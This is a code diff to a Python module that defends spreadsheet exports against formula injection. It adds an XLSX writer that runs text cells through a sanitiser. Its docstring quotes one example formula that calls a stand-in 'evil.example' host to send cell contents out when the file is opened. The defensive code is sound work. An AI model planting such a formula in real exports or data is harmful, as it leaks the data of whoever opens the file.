@@ -4,11 +4,13 @@ Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` 
 strip it, a tab or carriage return) as a formula: a name such as `=HYPERLINK("http://evil.example/?"&A1)`
 would send the neighbouring cells away when the data protection officer opens the export. The OWASP rule
 is to prefix such a cell with a single quote, which the program takes as "text follows" and does not show.
-Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`).
+Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`, `spreadsheet_xlsx`).
 """
 
 import csv
+import io
 from collections.abc import Iterable
+from decimal import Decimal
 from typing import Any
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -42,3 +44,20 @@ class SpreadsheetCsvWriter:
 
 def spreadsheet_csv_writer(file, **fmtparams) -> SpreadsheetCsvWriter:
     return SpreadsheetCsvWriter(file, **fmtparams)
+
+
+def spreadsheet_xlsx(rows: Iterable[Iterable[Any]], *, sheet_title: str = "Export") -> bytes:
+    """An XLSX workbook of one sheet holding the rows: numbers stay numbers (a Decimal becomes a float, as
+    XLSX stores it), every text cell passes `spreadsheet_safe`."""
+    # openpyxl takes a tenth of a second to import; only the XLSX downloads pay for it.
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    sheet = workbook.active
+    # Excel refuses sheet names over 31 characters or holding []:*?/\ .
+    sheet.title = "".join(c for c in sheet_title if c not in "[]:*?/\\")[:31] or "Export"
+    for row in rows:
+        sheet.append([float(value) if isinstance(value, Decimal) else spreadsheet_safe(value) for value in row])
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
